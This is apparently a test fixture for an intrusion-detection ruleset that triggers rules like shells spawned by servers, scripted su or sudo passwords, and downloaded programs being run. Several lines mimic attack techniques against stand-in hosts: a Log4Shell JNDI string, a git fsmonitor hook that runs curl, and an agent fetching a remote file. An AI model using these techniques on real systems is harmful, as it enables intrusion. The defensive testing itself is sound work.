## Shell started by a network server
server 'true'
## Shell started by a program that listens
printf 'import os, socket\ns = socket.create_server(("", 8000))\nos.system("true")\n' > /srv/app.py
python3 /srv/app.py
## Shell started by an application in a container
#also Suspicious Process Execution
#in shop:1
node -e 'require("child_process").execSync("true")'
## Interpreter started by a network server in a container
#also Right over the host used by a server's command in a container
#also Suspicious Process Execution
#in shop:1
/usr/sbin/httpd -c 'python3 -c pass; true'
## Shell started by a viewer of documents
#setup shells /usr/bin/evince
evince -c 'sh -c true; true'
## Program run from a removable disk
#setup mkdir -p /media 2>/dev/null; mount -t tmpfs none /media; stubs /media/ann/STICK/setup
/media/ann/STICK/setup
## Unusual step of an install script
sh -c 'curl -s http://10.9.8.7/ || true; : postinstall'
## Root login over SSH with a password
#also Login that checks nobody's identity
#setup prepare_sshd; start_log
/usr/sbin/sshd -f /srv/sshd
login right root; end_log
## Login from the internet with a password
#also Login that checks nobody's identity
#setup prepare_sshd; start_log
/usr/sbin/sshd -f /srv/sshd
login right ann; end_log
## Attack on a library seen in a log
#also Attack in the text of a request
#also Server stopped by hand
#also Transfer tool given a bare private address and a scratch folder
#setup start_log
#setup mkdir -p /var/lib/nginx; printf 'events {}\nhttp { access_log /var/log/nginx/access.log; server { listen 80; } }\n' > /srv/nginx.conf
nginx -c /srv/nginx.conf; curl -s -o /tmp/page -A '${jndi:ldap://203.0.113.9/x}' http://10.9.8.7/; nginx -c /srv/nginx.conf -s quit
## Server or set-user-id program crashes again and again
#also Service crashes several times
cp /opt/lab/fault /usr/sbin/nginx; nginx forks 20
## Shell started by a browser or messenger
#setup shells /usr/lib/firefox/firefox
/usr/lib/firefox/firefox -c 'sh -c true; true'
## Shell started by a service for mail, printing or remote work
#setup shells /usr/sbin/cupsd
cupsd -c 'sh -c true; true'
## Download tool started by a command of a repository
#setup git init -q /home/ann/lib; printf '#!/bin/sh\ncurl -s http://10.9.8.7/ || true\n' > /home/ann/lib/.git/fsm; chmod 755 /home/ann/lib/.git/fsm
#setup git -C /home/ann/lib config core.fsmonitor .git/fsm
cd /home/ann/lib; git status
## Password given to su by a script
setpriv --reuid 1000 --regid 1000 --clear-groups su -c true root < /dev/null
## Password given to sudo by a script
setpriv --reuid 1000 --regid 1000 --clear-groups sudo -S -k true < /dev/null
## Database client started by a server's command
#also Shell started by a network server
#setup stubs /usr/bin/mysql
server 'mysql -h 10.9.8.7 -u shop -e x'
## Account of a directory used with a password argument
#also Tool for Windows machines started
#setup stubs /usr/bin/smbclient
smbclient //10.9.8.7/x -U corp/ann%secret
## Directory asked with a password argument
#setup stubs /usr/bin/ldapsearch
ldapsearch -x -D cn=x -w secret
## Wireless network joined by hand
#also Other way out of the machine opened
#setup stubs /usr/bin/nmcli
nmcli dev wifi connect Corp password secret
## Key of a wireless network written
mkdir -p /var/lib/iwd; echo x > /var/lib/iwd/Corp.psk
## Intruder's command started by an application
#setup shells /usr/lib/jvm/java-17/bin/java
/usr/lib/jvm/java-17/bin/java -c 'sh -c "id > /dev/null; true"; :'
## Intruder's command started by a listening program
#setup mkdir -p /home/gw/bin; cp /usr/bin/python3.11 /home/gw/bin/web
/home/gw/bin/web -c 'import os, socket; s = socket.create_server(("127.0.0.1", 9443)); os.system("ls /; id > /dev/null")'
## Program run that an application had received
#setup cp /usr/bin/perl /usr/bin/evolution; mkdir -p /home/ann/Documents
/usr/bin/evolution -e 'open I, "<", "/bin/true"; open O, ">", "/home/ann/Documents/scan"; print O $_ while <I>; close O; chmod 0755, "/home/ann/Documents/scan"'; /home/ann/Documents/scan
## Program out of a downloaded archive run
#also Program run from a folder of downloads
#setup mkdir -p /usr/lib/firefox /home/ann/Downloads /opt/a; cp /bin/true /opt/a/tool; cp /usr/bin/python3.11 /usr/lib/firefox/firefox; chown 1000 /home/ann/Downloads; cd /opt/a; zip -q a.zip tool
setpriv --reuid 1000 --regid 1000 --clear-groups /usr/lib/firefox/firefox -c 'open("/home/ann/Downloads/a.zip", "wb").write(open("/opt/a/a.zip", "rb").read())'
cd /home/ann/Downloads; setpriv --reuid 1000 --regid 1000 --clear-groups unzip -q a.zip; setpriv --reuid 1000 --regid 1000 --clear-groups ./tool
## Foreign code brought by an agent of administration
#also Transfer tool given a bare address
#setup shells /usr/sbin/zabbix_agentd
/usr/sbin/zabbix_agentd -c 'sh -c "curl -s -m 1 http://203.0.113.9/m || true"; :'
